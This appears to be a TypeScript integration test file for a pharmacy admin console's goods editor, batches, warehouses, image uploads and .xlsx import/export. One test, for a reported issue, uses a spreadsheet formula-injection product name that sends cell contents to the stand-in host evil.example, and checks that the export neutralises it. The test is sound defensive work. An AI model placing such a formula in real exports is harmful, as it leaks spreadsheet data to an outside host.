import { ADMIN_GOODS_TOTAL_CAP } from '@yaocai/domain';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { multipart, operatorCookie, sqlOne } from '../../../test/factories';
import { createTestApp, type TestContext } from '../../../test/helpers';
import { auditLog, categories, goods, goodsStock } from '../../db/schema';
import { forgetAdminGoodsLists } from './admin-goods-list';

let ctx: TestContext;
let admin: string;
let operations: string;
let quality: string;
let warehouse: string;
let categoryId: number;
let categoryCode: string;

beforeAll(async () => {
  ctx = await createTestApp();
  admin = (await operatorCookie(ctx.app)).cookie;
  operations = (await operatorCookie(ctx.app, 'operations')).cookie;
  quality = (await operatorCookie(ctx.app, 'quality')).cookie;
  warehouse = (await operatorCookie(ctx.app, 'warehouse')).cookie;
  const [category] = await ctx.app.db.select().from(categories).where(eq(categories.menu, 'normal')).limit(1);
  categoryId = category.id;
  categoryCode = category.code;
});
afterAll(() => ctx.close());

const call = (method: 'GET' | 'POST', url: string, cookie: string, payload?: object) =>
  ctx.app.inject({ method, url, payload, headers: { cookie } });

let serial = 0;
const body = (over: Record<string, unknown> = {}) => ({
  name: '测试布洛芬缓释胶囊',
  common_name: '布洛芬缓释胶囊',
  kind: 'drug',
  manufacturer: `测试药业有限公司${++serial}`,
  spec: '0.3g*20粒',
  unit: '盒',
  approval_no: '国药准字H10900089',
  dosage_form: '胶囊剂',
  rx_class: 'otc_a',
  storage: '密封，阴凉干燥处保存',
  scope_class: 'hxyzj',
  base_price: 12.5,
  retail_price: 18,
  ladder_type: 0,
  ladder: [
    { quantity: 10, price: 12 },
    { quantity: 50, price: 11.5 },
  ],
  min_quantity: 1,
  step_quantity: 1,
  category_ids: [categoryId],
  ...over,
});

async function created(over: Record<string, unknown> = {}) {
  const res = await call('POST', '/api/admin/goods', operations, body(over));
  expect(res.statusCode, res.body).toBe(200);
  return res.json().data as { id: number; sku: string; on_sale: boolean; stock: number };
}

describe('console goods editor', () => {
  it('refuses bad input field by field, in Chinese, and writes nothing', async () => {
    const before = await sqlOne<{ n: number }>(ctx.app.db, sql`select count(*)::int as n from goods`);
    const res = await call(
      'POST',
      '/api/admin/goods',
      operations,
      body({
        name: '',
        base_price: -1,
        retail_price: 1,
        ladder: [
          { quantity: 10, price: 12 },
          { quantity: 5, price: 13 },
        ],
        category_ids: [],
      }),
    );
    expect(res.statusCode).toBe(422);
    const errors = res.json().data.errors as Record<string, string[]>;
    expect(errors.name).toEqual(['请填写商品名称']);
    expect(errors.base_price).toEqual(['基础价不能为负数']);
    expect(errors.category_ids).toEqual(['请至少选择一个分类']);
    expect((await sqlOne<{ n: number }>(ctx.app.db, sql`select count(*)::int as n from goods`)).n).toBe(
      before.n,
    );

    const ladder = await call(
      'POST',
      '/api/admin/goods',
      operations,
      body({
        ladder: [
          { quantity: 10, price: 12 },
          { quantity: 5, price: 13 },
        ],
      }),
    );
    expect(ladder.json().data.errors['ladder.1.quantity']).toEqual(['第2档数量须大于第1档']);
  });

  it('creates a goods off sale with an SKU, pinyin keys and an audit row; on sale it is in the shop', async () => {
    const goodsRow = await created();
    expect(goodsRow.sku).toMatch(/^YC\d{8}$/);
    expect(goodsRow.on_sale).toBe(false);
    const [row] = await ctx.app.db.select().from(goods).where(eq(goods.id, goodsRow.id));
    expect(row.nameInitials).toContain('csblfhsjn');
    const shop = async () =>
      (await ctx.app.inject(`/api/goods/list?keywords=csblf&page_size=50`)).json().data.list as {
        id: number;
      }[];
    expect((await shop()).some((g) => g.id === goodsRow.id)).toBe(false);
    const sale = await call('POST', `/api/admin/goods/${goodsRow.id}/sale`, operations, { on_sale: true });
    expect(sale.json()).toMatchObject({ message: '已上架', data: { on_sale: true } });
    expect((await shop()).some((g) => g.id === goodsRow.id)).toBe(true);
    const trail = await ctx.app.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.targetId, String(goodsRow.id)));
    expect(trail.map((a) => a.action).sort()).toEqual(['goods.create', 'goods.sale']);
  });

  it('a price change shows in the shop at once and is traceable to the operator', async () => {
    const { id } = await created({ name: '测试价格跟随片' });
    await call('POST', `/api/admin/goods/${id}/sale`, operations, { on_sale: true });
    const edit = await call(
      'POST',
      `/api/admin/goods/${id}`,
      operations,
      body({ name: '测试价格跟随片', base_price: 9.9, ladder: [] }),
    );
    expect(edit.statusCode, edit.body).toBe(200);
    expect(edit.json().data.fields.base_price).toBe(9.9);
    const [update] = await ctx.app.db
      .select()
      .from(auditLog)
      .where(sql`${auditLog.targetId} = ${String(id)} and ${auditLog.action} = 'goods.update'`);
    expect(update.before).toMatchObject({ basePriceFen: 1250 });
    expect(update.after).toMatchObject({ basePriceFen: 990, ladder: [] });
  });

  it('refuses the same approval number, specification and manufacturer twice', async () => {
    await created({ manufacturer: '重复药业' });
    const again = await call('POST', '/api/admin/goods', operations, body({ manufacturer: '重复药业' }));
    expect(again.statusCode).toBe(422);
    expect(again.json().data.errors.approval_no[0]).toMatch(/^同一批准文号、规格和生产厂家的商品已存在/);
  });

  it('answers 404 for a goods that does not exist', async () => {
    expect((await call('GET', '/api/admin/goods/999999', admin)).statusCode).toBe(404);
    expect((await call('POST', '/api/admin/goods/999999', operations, body())).statusCode).toBe(404);
  });

  it('lists with search by approval number, pinyin initials and filters', async () => {
    const { id } = await created({ name: '测试列表查找丸', approval_no: '国药准字Z20990001' });
    const find = async (query: string) =>
      ((await call('GET', `/api/admin/goods?${query}`, quality)).json().data.list as { id: number }[]).map(
        (g) => g.id,
      );
    expect(await find('q=Z20990001')).toEqual([id]);
    expect(await find('q=cslbczw')).toEqual([id]);
    expect(await find('q=Z20990001&on_sale=1')).toEqual([]);
    expect(await find('q=Z20990001&on_sale=0&stock=out')).toEqual([id]);
    expect(await find('q=z20990001&kind=drug')).toEqual([id]);
    expect(await find('q=Z20990001&kind=device')).toEqual([]);
  });
});

describe('goods indexes', () => {
  it('name no column an order moves, so a stock move stays a HOT update (020_hot_updates.sql)', async () => {
    // PostgreSQL counts the columns of an index's key, expressions and predicate as indexed: one
    // naming stock_total or goods_stock.quantity makes every order write into every index.
    const result = await ctx.app.db.execute(
      sql`select indexname, indexdef from pg_indexes where tablename in ('goods', 'goods_stock')`,
    );
    const indexes = result.rows as { indexname: string; indexdef: string }[];
    expect(indexes.length).toBeGreaterThan(10);
    expect(
      indexes.filter((i) => /\b(stock_total|quantity)\b/.test(i.indexdef)).map((i) => i.indexname),
    ).toEqual([]);
  });
});

describe('warehouses (新增仓库)', () => {
  it('adds a warehouse the editor offers at once, audited; a taken name or a bad one is refused', async () => {
    const res = await call('POST', '/api/admin/warehouses', quality, { name: '  南方仓（广州）  ' });
    expect(res.statusCode, res.body).toBe(200);
    const added = res.json().data as { id: number; name: string };
    expect(added.name).toBe('南方仓（广州）');
    const options = (await call('GET', '/api/admin/goods/options', quality)).json().data;
    expect(options.warehouses).toContainEqual(added);
    const [entry] = await ctx.app.db.select().from(auditLog).where(eq(auditLog.action, 'warehouse.create'));
    expect(entry).toMatchObject({ targetType: 'warehouse', targetId: String(added.id) });
    const again = await call('POST', '/api/admin/warehouses', quality, { name: '南方仓（广州）' });
    expect([again.statusCode, again.json().data.errors.name]).toEqual([422, ['已有同名仓库']]);
    const short = await call('POST', '/api/admin/warehouses', quality, { name: '仓' });
    expect(short.json().data.errors.name).toEqual(['请填写仓库名称（至少2个字）']);
    expect((await call('POST', '/api/admin/warehouses', operations, { name: '运营仓' })).statusCode).toBe(
      403,
    );
    // A batch is received into it.
    const { id } = await created({ name: '测试新仓片' });
    const batch = await call('POST', `/api/admin/goods/${id}/batches`, quality, {
      warehouse_id: added.id,
      batch_no: 'N2601',
      produced_on: '2026-01-10',
      expires_on: '2028-01-09',
      quantity: 30,
    });
    expect(batch.json().data).toMatchObject({ stock: 30 });
  });
});

describe('stock by batch', () => {
  it('the demo catalogue holds its stock in batches, some goods in two', async () => {
    const perGoods = await ctx.app.db.execute(
      sql`select goods_id, count(*)::int as n, min(expires_on)::text as first from goods_batches group by goods_id`,
    );
    const rows = perGoods.rows as { goods_id: number; n: number; first: string }[];
    expect(rows.length).toBeGreaterThan(100);
    expect(rows.some((r) => r.n >= 2)).toBe(true);
    const [sample] = rows;
    const [row] = await ctx.app.db.select().from(goods).where(eq(goods.id, sample.goods_id));
    expect(row.expiresOn).toBe(sample.first);
  });

  it('receives batches: stock adds up, the shown expiry is the earliest batch with stock', async () => {
    const { id } = await created({ name: '测试批号片' });
    const [wh] = (await call('GET', '/api/admin/goods/options', quality)).json().data.warehouses as {
      id: number;
    }[];
    const add = (batch_no: string, expires_on: string, quantity: number) =>
      call('POST', `/api/admin/goods/${id}/batches`, quality, {
        warehouse_id: wh.id,
        batch_no,
        produced_on: '2026-01-10',
        expires_on,
        quantity,
      });
    expect((await add('B2601', '2028-01-09', 100)).statusCode).toBe(200);
    const second = await add('B2512', '2027-12-09', 50);
    expect(second.json().data).toMatchObject({ stock: 150, expires_on: '2027-12-09' });
    expect(second.json().data.batches.map((b: { batch_no: string }) => b.batch_no)).toEqual([
      'B2512',
      'B2601',
    ]);

    const duplicate = await add('B2512', '2027-12-09', 5);
    expect(duplicate.json().data.errors.batch_no).toEqual(['该仓库已有此批号，请修改数量而不是重复添加']);
    const backwards = await add('B9', '2025-12-31', 5);
    expect(backwards.statusCode).toBe(422);
    expect(backwards.json().data.errors.expires_on).toEqual(['有效期须晚于生产日期']);

    // The warehouse counts the earlier batch empty: stock and shown expiry follow.
    const batch = second.json().data.batches[0] as { id: number };
    expect(
      (await call('POST', `/api/admin/goods/${id}/batches/${batch.id}`, quality, { quantity: 0 })).statusCode,
    ).toBe(403);
    const counted = await call('POST', `/api/admin/goods/${id}/batches/${batch.id}`, warehouse, {
      quantity: 0,
    });
    expect(counted.json().data).toMatchObject({ stock: 100, expires_on: '2028-01-09' });
    const [stock] = await ctx.app.db.select().from(goodsStock).where(eq(goodsStock.goodsId, id));
    expect(stock.quantity).toBe(100);

    // Stock reserved by unshipped orders cannot be counted away.
    await ctx.app.db.update(goodsStock).set({ quantity: 30 }).where(eq(goodsStock.goodsId, id));
    const later = counted.json().data.batches[1] as { id: number };
    const tooMuch = await call('POST', `/api/admin/goods/${id}/batches/${later.id}`, warehouse, {
      quantity: 10,
    });
    expect(tooMuch.statusCode).toBe(400);
    expect(tooMuch.json().message).toMatch(/^可售库存不足/);
    const [unchanged] = await ctx.app.db.select().from(goodsStock).where(eq(goodsStock.goodsId, id));
    expect(unchanged.quantity).toBe(30);
  });
});

async function workbookOf(rows: (string | number)[][]) {
  const template = await call('GET', '/api/admin/goods/import-template', operations);
  expect(template.headers['content-type']).toMatch(/spreadsheetml/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(template.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  const headers = (sheet.getRow(1).values as string[]).slice(1);
  for (const row of rows) sheet.addRow(row);
  return { headers, bytes: Buffer.from(await workbook.xlsx.writeBuffer()) };
}

const upload = (url: string, cookie: string, bytes: Buffer, filename: string, type: string) => {
  const form = multipart({}, { name: filename, bytes, type });
  return ctx.app.inject({ method: 'POST', url, payload: form.payload, headers: { ...form.headers, cookie } });
};

describe('.xlsx import and export', () => {
  const row = (n: number, over: Partial<Record<string, string | number>> = {}) => {
    const values: Record<string, string | number> = {
      商品名称: `导入测试片${n}`,
      通用名: `导入测试片${n}`,
      商品类型: '药品',
      生产厂家: '导入测试药业',
      规格: `${n}mg*10片`,
      包装单位: '盒',
      批准文号: `国药准字H2099${String(n).padStart(4, '0')}`,
      处方类别: '处方药',
      经营范围类别: '化学药制剂',
      基础价: 8.8,
      阶梯价: '10:8.5;50:8.2',
      分类编码: categoryCode,
      ...over,
    };
    return values;
  };

  it('lists every category code with its menu and name path in the template', async () => {
    const template = await call('GET', '/api/admin/goods/import-template', operations);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(template.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('分类编码');
    expect(sheet, 'sheet 分类编码').toBeDefined();
    const rows = (sheet?.getSheetValues() ?? []).slice(2).map((r) => (r as string[]).slice(1));
    const all = await ctx.app.db.select().from(categories);
    expect(rows.map((r) => r[0]).sort()).toEqual(all.map((c) => c.code).sort());
    const child = all.find((c) => c.parentId !== null && c.menu === 'normal');
    const parent = all.find((c) => c.id === child?.parentId);
    expect(rows).toContainEqual([child?.code, '常规分类', `${parent?.name} / ${child?.name}`]);
  });

  it('imports new goods all at once and exports them in the same columns', async () => {
    const { headers, bytes } = await workbookOf([]);
    const sheetRows = [1, 2, 3].map((n) => headers.map((h) => row(n)[h] ?? ''));
    const filled = await workbookOf(sheetRows);
    const res = await upload(
      '/api/admin/goods/import',
      operations,
      filled.bytes,
      'goods.xlsx',
      'application/octet-stream',
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({
      message: '导入成功：新建3个，修改0个',
      data: { created: 3, updated: 0 },
    });
    expect(bytes.length).toBeGreaterThan(0);

    const exported = await call('GET', '/api/admin/goods/export?q=导入测试片', operations);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.actualRowCount).toBe(4);
    const col = (name: string) => headers.indexOf(name) + 1;
    const names = [2, 3, 4].map((r) => sheet.getRow(r).getCell(col('商品名称')).value).sort();
    expect(names).toEqual(['导入测试片1', '导入测试片2', '导入测试片3']);
    expect(sheet.getRow(2).getCell(col('阶梯价')).value).toBe('10:8.50;50:8.20');
    const [imported] = await ctx.app.db.select().from(auditLog).where(eq(auditLog.action, 'goods.import'));
    expect(imported.after).toEqual({ created: 3, updated: 0 });

    // Re-importing the export with a changed price updates by SKU.
    sheet.getRow(2).getCell(col('基础价')).value = 9.5;
    const again = await upload(
      '/api/admin/goods/import',
      operations,
      Buffer.from(await workbook.xlsx.writeBuffer()),
      'goods.xlsx',
      'application/octet-stream',
    );
    expect(again.json().data).toMatchObject({ created: 0, updated: 3 });
  });

  it('names every bad row and column, and imports nothing when one row is bad', async () => {
    const before = await sqlOne<{ n: number }>(ctx.app.db, sql`select count(*)::int as n from goods`);
    const { headers } = await workbookOf([]);
    const rows = [
      row(11),
      row(12, { 基础价: -3, 处方类别: '外用' }),
      row(13, { 阶梯价: '50:8;10:7', 分类编码: 'nope' }),
      row(11),
    ].map((r) => headers.map((h) => r[h] ?? ''));
    const res = await upload(
      '/api/admin/goods/import',
      operations,
      (await workbookOf(rows)).bytes,
      'g.xlsx',
      'application/octet-stream',
    );
    expect(res.statusCode).toBe(422);
    expect(res.json().message).toMatch(/^导入失败：共\d+处错误，未导入任何数据$/);
    const errors = res.json().data.errors as Record<string, string[]>;
    expect(errors['第3行 基础价']).toEqual(['基础价不能为负数']);
    expect(errors['第3行 处方类别']).toEqual(['请选择处方类别']);
    expect(errors['第4行 分类编码']).toEqual(['分类编码「nope」不存在']);
    expect(errors['第5行 批准文号']).toEqual(['与第2行批准文号、规格和生产厂家相同']);
    expect((await sqlOne<{ n: number }>(ctx.app.db, sql`select count(*)::int as n from goods`)).n).toBe(
      before.n,
    );
  });

  it('refuses goods of a class never sold online, in the editor and in a file, as 站点设置 lists them', async () => {
    const vaccine = await call('POST', '/api/admin/goods', operations, body({ control_class: 'vaccine' }));
    expect(vaccine.statusCode).toBe(422);
    expect(vaccine.json().data.errors.control_class).toEqual([
      '疫苗不得通过网络销售，不能上架（站点设置·质量管理）',
    ]);
    const { headers } = await workbookOf([]);
    expect(headers).toContain('特殊管理类别');
    const rows = [row(21, { 特殊管理类别: '麻醉药品' })].map((r) => headers.map((h) => r[h] ?? ''));
    const res = await upload(
      '/api/admin/goods/import',
      operations,
      (await workbookOf(rows)).bytes,
      'g.xlsx',
      'x',
    );
    expect(res.statusCode).toBe(422);
    expect(res.json().data.errors['第2行 特殊管理类别']).toEqual([
      '麻醉药品不得通过网络销售，不能上架（站点设置·质量管理）',
    ]);
    // A class the operator takes off the list may be listed (中药配方颗粒 here); the others stay refused.
    const settings = (await call('GET', '/api/admin/settings', admin)).json().data.compliance;
    const saved = await call('POST', '/api/admin/settings/compliance', admin, {
      ...settings,
      never_listable: settings.never_listable.filter((c: string) => c !== 'tcm_granule'),
    });
    expect(saved.statusCode, saved.body).toBe(200);
    const granule = await created({ control_class: 'tcm_granule' });
    const detail = (await call('GET', `/api/admin/goods/${granule.id}`, operations)).json().data;
    expect(detail.fields.control_class).toBe('tcm_granule');
    expect(
      (await call('POST', '/api/admin/goods', operations, body({ control_class: 'narcotic' }))).statusCode,
    ).toBe(422);
    // Putting 中药配方颗粒 back on the list takes the goods off sale (audited), and it stays off.
    await call('POST', `/api/admin/goods/${granule.id}/sale`, operations, { on_sale: true });
    expect((await call('GET', `/api/admin/goods/${granule.id}`, operations)).json().data.on_sale).toBe(true);
    const back = await call('POST', '/api/admin/settings/compliance', admin, settings);
    expect(back.statusCode, back.body).toBe(200);
    expect((await call('GET', `/api/admin/goods/${granule.id}`, operations)).json().data.on_sale).toBe(false);
    const relist = await call('POST', `/api/admin/goods/${granule.id}/sale`, operations, { on_sale: true });
    expect(relist.statusCode).toBe(422);
    expect(relist.json().message).toBe('中药配方颗粒不得通过网络销售，不能上架（站点设置·质量管理）');
    const [delisted] = await ctx.app.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.targetId, String(granule.id)))
      .orderBy(sql`${auditLog.id} desc`)
      .limit(1);
    expect(delisted).toMatchObject({
      action: 'goods.sale',
      after: expect.objectContaining({ isOnSale: false }),
    });
  });

  it('exports text a spreadsheet would run as a formula after a quote, and imports it back unchanged', async () => {
    // Issue 30: a goods named =HYPERLINK(...) went into the console's .xlsx as it was.
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const g = await created({
      name,
      common_name: '+布洛芬缓释胶囊',
      manufacturer: '@测试药业有限公司',
      approval_no: '国药准字H20300001',
      description: '-1 用于\t缓解疼痛',
      base_price: 12.5,
    });
    const exportedSheet = async () => {
      const res = await call('GET', '/api/admin/goods/export?q=国药准字H20300001', operations);
      expect(res.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      const headers = (sheet.getRow(1).values as string[]).slice(1);
      const cell = (header: string) => sheet.getRow(2).getCell(headers.indexOf(header) + 1).value;
      return { workbook, sheet, cell };
    };
    const first = await exportedSheet();
    expect(first.sheet.actualRowCount).toBe(2);
    expect(first.cell('商品编码')).toBe(g.sku);
    expect(first.cell('商品名称')).toBe(`'${name}`);
    expect(first.cell('通用名')).toBe("'+布洛芬缓释胶囊");
    expect(first.cell('生产厂家')).toBe("'@测试药业有限公司");
    expect(first.cell('商品说明')).toBe("'-1 用于\t缓解疼痛");
    // Numbers stay numbers; only text is quoted.
    expect(first.cell('基础价')).toBe(12.5);
    expect(first.cell('起订量')).toBe(1);

    // The exported file imported as it is changes nothing, and exports the same again.
    const again = await upload(
      '/api/admin/goods/import',
      operations,
      Buffer.from(await first.workbook.xlsx.writeBuffer()),
      'goods.xlsx',
      'application/octet-stream',
    );
    expect(again.statusCode, again.body).toBe(200);
    expect(again.json().data).toMatchObject({ created: 0, updated: 1 });
    const [row] = await ctx.app.db.select().from(goods).where(eq(goods.id, g.id));
    expect(row).toMatchObject({
      name,
      commonName: '+布洛芬缓释胶囊',
      manufacturer: '@测试药业有限公司',
      description: '-1 用于\t缓解疼痛',
    });
    const second = await exportedSheet();
    expect(second.cell('商品名称')).toBe(`'${name}`);
    expect(second.cell('商品说明')).toBe("'-1 用于\t缓解疼痛");
  });

  it('refuses a cell holding half a surrogate pair (_xD800_ in the file), naming its row and column', async () => {
    // ExcelJS reads the OOXML escape _xD800_ back as a lone surrogate: the audit row (jsonb) refused it.
    const { headers } = await workbookOf([]);
    const rows = [row(31, { 商品名称: '导入测试_xD800_片' })].map((r) => headers.map((h) => r[h] ?? ''));
    const res = await upload(
      '/api/admin/goods/import',
      operations,
      (await workbookOf(rows)).bytes,
      'g.xlsx',
      'application/octet-stream',
    );
    expect(res.statusCode, res.body).toBe(422);
    expect(res.json().data.errors['第2行 商品名称']).toEqual(['商品名称含有无法识别的字符，请删除后重试']);
  });

  it('refuses a file that is not a spreadsheet, with a message', async () => {
    const res = await upload(
      '/api/admin/goods/import',
      operations,
      Buffer.from('name,qty\n'),
      'g.xlsx',
      'text/csv',
    );
    expect(res.statusCode).toBe(422);
    expect(res.json().data.errors.file).toEqual(['文件无法读取：请上传由模板填写的 .xlsx 文件']);
  });
});

describe('goods pictures', () => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );

  it('stores a picture and serves it publicly; refuses what is not a picture', async () => {
    const res = await upload('/api/admin/goods/images', operations, png, 'a.png', 'image/png');
    expect(res.statusCode, res.body).toBe(200);
    const { url } = res.json().data as { url: string };
    const served = await ctx.app.inject(url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.rawPayload.equals(png)).toBe(true);
    const text = await upload(
      '/api/admin/goods/images',
      operations,
      Buffer.from('hello'),
      'a.png',
      'image/png',
    );
    expect(text.json().data.errors.file).toEqual(['仅支持 JPG、PNG、WEBP 图片']);
    expect((await ctx.app.inject('/media/goods-images/99999')).statusCode).toBe(404);
  });
});

describe('console goods list past its cap', () => {
  it('pages a broad list (walked page by page) and a narrow one (gathered once) alike: newest edit first, ties by id, no row twice', async () => {
    // More goods than the cap, in edit-time groups (ties), half of them devices.
    await ctx.app.db.execute(
      `
      insert into goods (sku, name, common_name, kind, manufacturer, spec, unit, approval_no, scope_class,
                         base_price_fen, stock_total, is_on_sale, updated_at)
      select 'WIDE' || i, '宽列表测试片' || i, '宽列表测试片', case when i % 2 = 0 then 'device' else 'drug' end,
             '宽列表制药有限公司', '0.1g*10片', '盒', '国药准字Z' || (80000000 + i), 'fcfy', 1000 + i, 10, true,
             now() - (i % 7) * interval '1 minute'
      from generate_series(1, ${ADMIN_GOODS_TOTAL_CAP + 5}) i` as never,
    );
    forgetAdminGoodsLists();
    const page = async (query: string) =>
      (await call('GET', `/api/admin/goods?${query}`, quality)).json().data as {
        list: { id: number; updated_at: string }[];
        total: number;
      };
    const expected = async (where: string, offset: number) =>
      (
        (
          await ctx.app.db.execute(
            `select id from goods where ${where} order by updated_at desc, id desc limit 10 offset ${offset}` as never,
          )
        ).rows as { id: number }[]
      ).map((r) => Number(r.id));
    const cases = [
      { query: 'q=宽列表测试', where: `name like '宽列表测试片%'`, total: ADMIN_GOODS_TOTAL_CAP + 1 },
      {
        query: 'q=宽列表测试&kind=device',
        where: `name like '宽列表测试片%' and kind = 'device'`,
        total: 1002,
      },
      { query: 'on_sale=1', where: 'is_on_sale', total: ADMIN_GOODS_TOTAL_CAP + 1 },
    ];
    for (const { query, where, total } of cases) {
      for (const pageNo of [1, 2, 60]) {
        const first = await page(`${query}&page=${2 * pageNo - 1}&page_size=5`);
        const second = await page(`${query}&page=${2 * pageNo}&page_size=5`);
        const all = await page(`${query}&page=${pageNo}&page_size=10`);
        expect(all.total, query).toBe(total);
        expect(
          all.list.map((g) => g.id),
          `${query} page ${pageNo}`,
        ).toEqual(await expected(where, (pageNo - 1) * 10));
        expect([...first.list, ...second.list].map((g) => g.id)).toEqual(all.list.map((g) => g.id));
      }
    }
    // A write drops the gathered lists: an edited goods comes first at once.
    const [last] = await expected(`name like '宽列表测试片%' and kind = 'device'`, 1001);
    await ctx.app.db.execute(sql`update goods set updated_at = now() + interval '1 hour' where id = ${last}`);
    forgetAdminGoodsLists();
    expect((await page('q=宽列表测试&kind=device&page=1&page_size=1')).list[0].id).toBe(last);
    // So does a broad list's walk (kept as far as its pages were asked).
    const [deep] = await expected(`name like '宽列表测试片%'`, 1500);
    await ctx.app.db.execute(
      sql`update goods set updated_at = now() + interval '2 hours' where id = ${deep}`,
    );
    forgetAdminGoodsLists();
    expect((await page('q=宽列表测试&page=1&page_size=1')).list[0].id).toBe(deep);
  });
});
